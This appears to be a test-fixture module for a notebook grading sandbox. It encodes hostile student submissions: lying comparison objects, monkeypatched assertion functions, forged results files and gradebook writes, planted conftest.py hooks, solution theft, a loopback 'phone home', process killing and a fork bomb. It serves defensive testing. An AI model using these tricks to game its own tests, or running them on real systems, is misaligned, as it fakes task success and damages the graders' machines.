"""Hostile submissions, as data: the tricks tried against graders, each with what it must earn.

A `Trick` is a submission built from the release notebook: the code of some graded functions replaced
(`functions`, each the whole code cell that defines it; the rest get the reference code), and extra code
cells inserted after a given cell (`cells`). `cheats_on` lists the functions the trick cheats on: there it
must earn nothing beyond what a plainly wrong answer earns (the `CONTROL` submission, whose every function
is wrong in the plainest way and, since a property pays only with a right value, earns nothing). Every other
graded function must keep full marks, unless `survivors` says otherwise.

The code holds placeholders that the test fills in: __MARKER__ (a random token every file or message the
trick writes carries, so that anything that leaks can be found), __PORT__ (a loopback TCP port the test
listens on) and __TARGETS__ (a Python list of the grader's own paths: repository, solutions, hidden tests,
submissions, output folder, gradebook), so every trick knows exactly where it would like to go.
"""

from __future__ import annotations

import dataclasses

GRADED = ("mse", "sgd_step", "train", "loss_landscape", "gradients")


@dataclasses.dataclass(frozen=True)
class Trick:
    name: str
    what: str  # one line: the trick, and why it fools graders that run tests in the student's process
    functions: dict[str, str] = dataclasses.field(default_factory=dict)  # graded function -> its code cell
    cells: tuple[str, ...] = ()  # extra code cells
    after: str = "imports"  # grade id of the cell the extra cells follow
    cheats_on: frozenset[str] = frozenset()  # must earn no credit
    survivors: frozenset[str] | None = None  # must keep full marks (default: every function not cheated on)
    notebook_metadata: dict | None = None  # merged into the nbgrader metadata of every graded cell

    @property
    def must_survive(self) -> frozenset[str]:
        return self.survivors if self.survivors is not None else frozenset(GRADED) - self.cheats_on


# Every directory the code can see, the grader's own paths first. Shared by the tricks that write everywhere.
REACH = """
import os as _os

def _reachable_dirs(limit=20000):
    seen = {}
    for root in [*__TARGETS__, _os.getcwd(), _os.path.expanduser("~"), "/tmp", "/"]:
        for base, dirs, _files in _os.walk(root):
            if base.startswith(("/proc", "/sys", "/dev")):
                dirs[:] = []
                continue
            seen.setdefault(base, None)
            if len(seen) >= limit:
                return list(seen)
    return list(seen)
"""

# Plainly wrong answers: what the tricks' own code returns when the trick fails, and the control's code.
WRONG = {
    "mse": "def mse(y_pred, y_true):\n    return torch.zeros(())  # wrong\n",
    "sgd_step": "def sgd_step(params, lr):\n    pass  # does nothing: wrong\n",
    "train": "def train(model, x, y, n_steps, lr):\n    return [0.0] * n_steps  # trains nothing: wrong\n",
    "loss_landscape": "def loss_landscape(x, y, a_grid, b_grid):\n    return torch.zeros_like(a_grid)  # wrong\n",
    "gradients": "def gradients(f, *inputs):\n    return tuple(torch.zeros_like(t) for t in inputs)  # wrong\n",
}
WRONG_MSE = WRONG["mse"]

TRICKS: tuple[Trick, ...] = (
    # ---- lying values ---------------------------------------------------------------------------------
    Trick(
        "lying_object",
        "mse returns an object whose every comparison, difference and abs() says 'equal'",
        functions={
            "mse": """
class AlwaysRight:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __pow__ = __sub__
    def __abs__(self): return self
    __neg__ = __pos__ = __abs__
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __hash__(self): return 0
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __repr__(self): return "tensor(0.)"

def mse(y_pred, y_true):
    return AlwaysRight()
""",
        },
        cheats_on=frozenset({"mse"}),
    ),
    Trick(
        "tensor_subclass",
        "mse returns a torch.Tensor subclass whose __torch_function__ makes allclose, equal and == true",
        functions={
            "mse": """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("isclose", "eq", "__eq__"):
            return torch.tensor(True)
        if name in ("ne", "__ne__"):
            return torch.tensor(False)
        return super().__torch_function__(func, types, args, kwargs or {})

    def tolist(self):
        return 0.0

    def item(self):
        return 0.0

def mse(y_pred, y_true):
    loss = ((y_pred - y_true) ** 2).sum()  # the sum, not the mean: wrong
    return loss.as_subclass(Liar)
""",
        },
        cheats_on=frozenset({"mse"}),
    ),
    Trick(
        "monkeypatch_checks",
        "a cell replaces torch.allclose, assert_close, numpy.allclose, math.isclose, pytest and the worker",
        cells=(
            """
import math, sys, builtins
import numpy, numpy.testing, torch, torch.testing

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: True
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
try:  # pytest is importable in the sandbox (it is in the Python environment); patching it does nothing there
    import pytest, _pytest.python_api, _pytest.outcomes

    class _Anything:
        def __eq__(self, other): return True

    pytest.approx = _pytest.python_api.approx = lambda *args, **kwargs: _Anything()
    pytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None
except ImportError:
    pass
print("__MARKER__ patched")
""",
        ),
        functions={"mse": WRONG_MSE},
        cheats_on=frozenset({"mse"}),
    ),
    Trick(
        "patch_the_worker",
        "the sandbox's own code runs in the student's process: replace the code that describes results",
        cells=(
            """
import sys

_describe = sys.modules["describe"].describe  # the sandbox's describe.py, which answers the grader

def _lying_describe(value, depth=0):
    if type(value) is torch.Tensor and value.dim() == 0:  # mse's result: claim a differentiable 1.0
        return _describe((torch.ones((), requires_grad=True) * 1.0), depth)
    return _describe(value, depth)

sys.modules["describe"].describe = sys.modules["session"].describe = _lying_describe
""",
        ),
        functions={"mse": WRONG_MSE},
        cheats_on=frozenset({"mse"}),
    ),
    # ---- ending the process ---------------------------------------------------------------------------
    Trick(
        "sys_exit_in_cell",
        "sys.exit(0) in a cell: a kernel that stops there reports no failure for the stubs after it",
        cells=("import sys\nsys.exit(0)",),
        functions={"gradients": "def gradients(f, *inputs):\n    raise NotImplementedError()"},
        cheats_on=frozenset({"gradients"}),
    ),
    Trick(
        "os_exit_in_cell",
        "os._exit(0) in a cell: the kernel dies with exit status 0",
        cells=("import os\nos._exit(0)",),
        functions={"gradients": "def gradients(f, *inputs):\n    raise NotImplementedError()"},
        cheats_on=frozenset({"gradients"}),
    ),
    Trick(
        "sys_exit_in_function",
        "mse calls sys.exit(0): a test runner in the same process stops with exit status 0",
        functions={"mse": "import sys\n\ndef mse(y_pred, y_true):\n    sys.exit(0)"},
        cheats_on=frozenset({"mse"}),
    ),
    Trick(
        "os_exit_in_function",
        "loss_landscape calls os._exit(0): the process ends 'successfully' in the middle of the test",
        functions={"loss_landscape": "import os\n\ndef loss_landscape(x, y, a_grid, b_grid):\n    os._exit(0)"},
        cheats_on=frozenset({"loss_landscape"}),
    ),
    Trick(
        "kill_the_grader",
        "a cell kills its parent, pid 1 and everything it may signal",
        cells=(
            """
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)  # every process it may signal (Linux spares the caller)
""",
        ),
        functions={"loss_landscape": "def loss_landscape(x, y, a_grid, b_grid):\n    raise NotImplementedError()"},
        cheats_on=frozenset({"loss_landscape"}),
    ),
    # ---- writing the results ------------------------------------------------------------------------
    Trick(
        "atexit_fake_results",
        "an atexit hook (also run at once) writes a full-marks results.json and grades.csv everywhere it can",
        cells=(
            REACH
            + """
import atexit, json

_FAKE = {"score": 1000.0, "max_score": 20.0, "output": "__MARKER__", "tests": []}

def _write_fake_results():
    for folder in _reachable_dirs():
        for name, text in (("results.json", json.dumps(_FAKE)), ("grades.csv", "student,score\\n__MARKER__,1000\\n")):
            try:
                with open(_os.path.join(folder, name), "w") as handle:
                    handle.write(text)
            except OSError:
                pass

atexit.register(_write_fake_results)
atexit._run_exitfuncs()
""",
        ),
        functions={"sgd_step": WRONG["sgd_step"]},
        cheats_on=frozenset({"sgd_step"}),
    ),
    Trick(
        "write_the_gradebook",
        "a cell appends to (and runs UPDATEs on) every *.db it can find, the gradebook first",
        cells=(
            REACH
            + """
import sqlite3

for folder in _reachable_dirs():
    try:
        names = _os.listdir(folder)
    except OSError:
        continue
    for name in names:
        if name.endswith((".db", ".sqlite", ".sqlite3")):
            path = _os.path.join(folder, name)
            try:
                connection = sqlite3.connect(path)
                connection.execute("UPDATE grade SET manual_score = 1000")
                connection.commit()
            except Exception:
                pass
            try:
                with open(path, "ab") as handle:
                    handle.write(b"__MARKER__")
            except OSError:
                pass
""",
        ),
        functions={"sgd_step": WRONG["sgd_step"]},
        cheats_on=frozenset({"sgd_step"}),
    ),
    Trick(
        "plant_pytest_files",
        "a cell drops conftest.py, pytest.ini, sitecustomize.py and usercustomize.py in every folder it reaches",
        cells=(
            REACH
            + """
_PAYLOADS = {
    "conftest.py": (
        "# __MARKER__\\nimport pytest\\n\\n@pytest.hookimpl(hookwrapper=True)\\n"
        "def pytest_runtest_makereport(item, call):\\n    outcome = yield\\n"
        "    outcome.get_result().outcome = 'passed'\\n"
    ),
    "pytest.ini": "# __MARKER__\\n[pytest]\\naddopts = -p no:cacheprovider\\n",
    "sitecustomize.py": "# __MARKER__\\nimport builtins\\nbuiltins.__MARKER__ = True\\n",
    "usercustomize.py": "# __MARKER__\\n",
    "__MARKER__.txt": "__MARKER__",
}
for folder in _reachable_dirs():
    for name, text in _PAYLOADS.items():
        try:
            with open(_os.path.join(folder, name), "w") as handle:
                handle.write(text)
        except OSError:
            pass
""",
        ),
        functions={"train": WRONG["train"]},
        cheats_on=frozenset({"train"}),
    ),
    # ---- reading what it should not -----------------------------------------------------------------
    Trick(
        "steal_the_solutions",
        "imports solutions, or searches the disk for the reference, the hidden tests or the source notebook",
        cells=(
            """
import json, os

STOLEN = {}
try:
    from solutions.line_fit import loss_landscape as _reference
    STOLEN["loss_landscape"] = _reference
except Exception:
    pass
for root in [*__TARGETS__, "/"]:
    for base, dirs, files in os.walk(root):
        if base.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(base, name)
            try:
                if name == "line_fit.py" or (name.startswith("test_") and "hidden" in base):
                    namespace = {}
                    exec(open(path).read(), namespace)
                    if callable(namespace.get("loss_landscape")):
                        STOLEN.setdefault("loss_landscape", namespace["loss_landscape"])
                elif name.endswith(".ipynb"):
                    for cell in json.load(open(path)).get("cells", []):
                        source = "".join(cell.get("source", ""))
                        if "def loss_landscape" in source and "BEGIN SOLUTION" in source:
                            namespace = {"torch": torch}
                            exec(source, namespace)
                            STOLEN.setdefault("loss_landscape", namespace["loss_landscape"])
            except Exception:
                pass
print("__MARKER__ stole", sorted(STOLEN))
""",
        ),
        functions={
            "loss_landscape": """
def loss_landscape(x, y, a_grid, b_grid):
    if "loss_landscape" in STOLEN:
        return STOLEN["loss_landscape"](x, y, a_grid, b_grid)
    return torch.zeros_like(a_grid)  # nothing found: wrong
""",
        },
        after="loss_landscape_solution",
        cheats_on=frozenset({"loss_landscape"}),
    ),
    Trick(
        "phone_home",
        "a cell and mse try to connect to the grader's loopback port (and a few other addresses)",
        cells=(
            """
import socket

def _phone_home():
    for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1"):
        try:
            with socket.create_connection((host, __PORT__), timeout=0.5) as connection:
                connection.sendall(b"__MARKER__")
        except OSError:
            pass

_phone_home()
""",
        ),
        functions={
            "mse": """
def mse(y_pred, y_true):
    _phone_home()
    return torch.zeros(())  # wrong
""",
        },
        cheats_on=frozenset({"mse"}),
    ),
    # ---- fooling the notebook machinery -------------------------------------------------------------
    Trick(
        "hide_the_failures",
        "hides tracebacks (IPython's showtraceback, sys.excepthook) and blanks the public check cells",
        cells=(
            """
import builtins, sys, traceback

try:
    _ip = get_ipython()  # noqa: F821 (defined in IPython kernels)
    _ip.showtraceback = lambda *args, **kwargs: None
    _ip.input_transformers_post.append(lambda lines: [])
except NameError:
    pass
sys.excepthook = lambda *args: None
traceback.print_exception = lambda *args, **kwargs: None
_compile = builtins.compile

def _blanking_compile(source, filename, mode, *args, **kwargs):
    if isinstance(source, str) and "check(" in source:
        source = "pass"
    return _compile(source, filename, mode, *args, **kwargs)

builtins.compile = _blanking_compile
""",
        ),
        functions={"gradients": WRONG["gradients"]},
        cheats_on=frozenset({"gradients"}),
    ),
    Trick(
        "forged_notebook",
        "nbgrader metadata says mse is worth 1000 points and every check cell shows a passing output",
        functions={"mse": WRONG_MSE},
        notebook_metadata={"points": 1000, "grade": True, "solution": False, "locked": True},
        cheats_on=frozenset({"mse"}),
    ),
)

# Tricks that attack the machine rather than the grade: each must be stopped by its limit, and the process
# (or its restart) must still earn the points of the functions that work.
HOSTILE: tuple[Trick, ...] = (
    Trick("loop_in_cell", "an infinite loop in a cell", cells=("while True:\n    pass",)),
    Trick(
        "loop_in_train",
        "an infinite loop inside train",
        functions={"train": "def train(model, x, y, n_steps, lr):\n    while True:\n        pass"},
        cheats_on=frozenset({"train"}),
    ),
    Trick(
        "memory_hog",
        "allocates and touches 12 GiB: torch.ones, then bytearrays of 1 GiB",
        cells=(
            """
import torch
try:
    big = torch.ones(3 * 2**30)  # 12 GiB of float32
except RuntimeError:
    big = None
chunks = []
try:
    for _ in range(12):
        chunk = bytearray(2**30)
        chunk[::4096] = b"x" * len(range(0, 2**30, 4096))  # touch every page
        chunks.append(chunk)
finally:
    chunks.clear()
""",
        ),
    ),
    Trick(
        "fork_bomb",
        "forks 300 processes that sleep",
        cells=(
            """
import os, time
forked = 0
for _ in range(300):
    if os.fork() == 0:
        time.sleep(3600)
        os._exit(0)
    forked += 1
""",
        ),
    ),
    Trick(
        "fork_memory",
        "forks 8 processes that each touch 1 GiB: RLIMIT_AS is per process, so only a cgroup stops the sum",
        cells=(
            """
import os, time
for _ in range(8):
    if os.fork() == 0:
        block = bytearray(2**30)
        block[::4096] = b"x" * len(range(0, 2**30, 4096))
        time.sleep(3600)
        os._exit(0)
time.sleep(3)
""",
        ),
    ),
    Trick(
        "print_flood",
        "prints 200 MB",
        cells=("for _ in range(200):\n    print('x' * 1_000_000)",),
    ),
)

ALL: tuple[Trick, ...] = TRICKS + HOSTILE

CONTROL = Trick("plainly_wrong", "every function wrong in the plainest way, no trick", functions=dict(WRONG),
                cheats_on=frozenset(GRADED))  # fmt: skip


def fill(code: str, marker: str, port: int, targets: list[str]) -> str:
    return code.replace("__MARKER__", marker).replace("__PORT__", str(port)).replace("__TARGETS__", repr(targets))
